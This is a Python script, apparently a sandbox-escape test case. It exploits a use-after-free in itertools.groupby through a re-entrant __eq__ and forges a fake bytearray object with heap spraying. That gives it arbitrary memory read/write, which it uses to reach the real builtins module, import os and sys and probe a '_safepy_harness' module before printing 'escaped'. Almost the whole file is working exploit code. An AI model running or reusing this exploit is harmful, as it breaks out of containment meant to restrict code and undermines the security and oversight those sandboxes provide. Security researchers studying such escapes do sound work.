# technique: itertools.groupby: groupby_next passes gbo->tgtkey/gbo->currkey borrowed to PyObject_RichCompareBool; tgtkey.__eq__ calls next(g) re-entrantly, groupby_step drops currkey (freed), bytearray buffers refill the block with a fake bytearray-subclass header, do_richcompare's reflected __eq__ gets the freed object -> fake bytearray (size 2**60) -> arbitrary R/W -> real builtins/os
# expect: any
import itertools
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
got = []
class BA(bytearray):
    def __eq__(self, other):
        got.append(self)
        return False
fake = (1 << 40).to_bytes(8, "little") + addr(BA).to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(40)
fake = fake + b"\x00" * (79 - len(fake))
spray = []
state = [0]
class K:
    def __eq__(self, other):
        if state[0] == 0:
            state[0] = 1
            del other
            next(g)          # re-entrant groupby_next: steps, drops currkey (our `other`)
            for _ in range(64):
                spray.append(bytearray(fake))
            return NotImplemented
        if state[0] == 1:
            state[0] = 2
            return True      # inner compare: equal -> groupby_step frees currkey
        return False
def gen():
    yield 0
    yield 1
    yield 2
    yield 3
    yield 4
def key(x):
    if x == 0: return K()
    return bytes([65 + x]) * 40 + bytes([x])
g = itertools.groupby(gen(), key)
k, grp = next(g)
next(g)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
